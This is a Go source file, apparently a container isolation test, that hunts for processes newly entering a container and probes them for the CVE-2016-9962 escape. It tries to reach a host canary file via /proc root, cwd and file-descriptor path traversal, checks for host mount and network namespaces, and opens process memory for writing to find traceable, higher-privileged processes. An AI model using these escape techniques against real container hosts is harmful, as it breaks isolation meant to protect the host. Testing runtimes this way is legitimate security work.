package main

import (
	"fmt"
	"os"
	"strings"
)

// hunt watches for processes that are born in sight, as a command executed by the runtime is, and tries what
// CVE-2016-9962 was about: to reach through one what the runtime has and the container has not. It says what it
// found once of each kind.
func hunt(args []string) error {
	h := hunter{canary: args[0], mount: args[1], device: args[2], known: map[int]bool{}, said: map[string]bool{}}
	for _, pid := range others() {
		h.known[pid] = true
	}
	fmt.Println("hunting")
	for {
		for _, pid := range others() {
			if !h.known[pid] {
				h.try(pid)
			}
		}
	}
}

type hunter struct {
	canary, mount, device string       // a file, a mount point and a network device of the host
	known                 map[int]bool // were there before
	said                  map[string]bool
}

func (h *hunter) say(kind, what string) {
	if !h.said[kind] {
		h.said[kind] = true
		escaped("%s: %s", kind, what)
	}
}

func (h *hunter) try(pid int) {
	proc := fmt.Sprintf("/proc/%d/", pid)
	if text, err := os.ReadFile(proc + "root" + h.canary); err == nil {
		h.say("root", string(text))
	}
	if text, err := os.ReadFile(proc + "cwd/../../../../.." + h.canary); err == nil {
		h.say("cwd", string(text))
	}
	h.views(proc)
	h.descriptors(proc)
	h.memory(proc)
}

// views looks for a process that is still in the host's namespaces: these two files are shown to everybody, for which the
// kernel asks no right (mounts_open_common, fs/proc_namespace.c; get_proc_task_net, fs/proc/proc_net.c).
func (h *hunter) views(proc string) {
	for kind, what := range map[string]string{"mountinfo": h.mount, "net/dev": h.device} {
		if text, err := os.ReadFile(proc + kind); err == nil && strings.Contains(string(text), what) {
			h.say(kind, what)
		}
	}
}

// descriptors looks for some that lead to the host.
func (h *hunter) descriptors(proc string) {
	for fd := range 64 {
		link := fmt.Sprintf("%sfd/%d", proc, fd)
		if text, err := os.ReadFile(link + "/../../../../../../../.." + h.canary); err == nil {
			h.say("directory", string(text))
		}
		target, err := os.Readlink(link)
		if err == nil && fd > 2 && (strings.Contains(target, "/cgroup/") || strings.Contains(target, "pidfd")) {
			h.say("descriptor", target)
		}
	}
}

// memory looks for a process that is still on its way, with capabilities that the container has not. What may be written into its memory may be traced, too (ptrace_may_access, kernel/ptrace.c).
func (h *hunter) memory(proc string) {
	f, err := os.OpenFile(proc+"mem", os.O_RDWR, 0)
	if err != nil {
		return
	}
	defer f.Close()
	if caps := effective(proc); caps&^effective("/proc/self/") != 0 {
		h.say("traceable", fmt.Sprintf("with capabilities %016x", caps))
	}
}

// effective are a process's capabilities.
func effective(proc string) (caps uint64) {
	status, _ := os.ReadFile(proc + "status")
	_, rest, _ := strings.Cut(string(status), "CapEff:\t")
	_, _ = fmt.Sscanf(rest, "%x", &caps) // of a process that is gone: none
	return caps
}
